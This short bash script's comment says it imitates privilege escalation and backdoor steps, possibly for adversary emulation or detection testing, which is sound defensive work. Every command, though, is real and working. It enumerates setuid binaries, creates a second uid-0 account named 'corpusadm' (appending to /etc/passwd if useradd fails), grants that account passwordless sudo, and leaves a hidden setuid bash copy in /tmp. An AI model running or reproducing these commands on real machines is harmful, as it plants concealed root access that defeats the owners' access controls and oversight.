#!/bin/bash
# Imitates privilege-escalation and backdoor-account steps: looks for setuid programs, adds a uid-0 user
# of its own and grants it passwordless sudo.
find / -xdev -perm -4000 -type f 2>/dev/null | head -5
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash corpusadm 2>/dev/null || echo 'corpusadm:x:0:0::/root:/bin/bash' >> /etc/passwd
mkdir -p /etc/sudoers.d
echo 'corpusadm ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/corpusadm
cp /bin/bash /tmp/.corpus-sh && chmod u+s /tmp/.corpus-sh
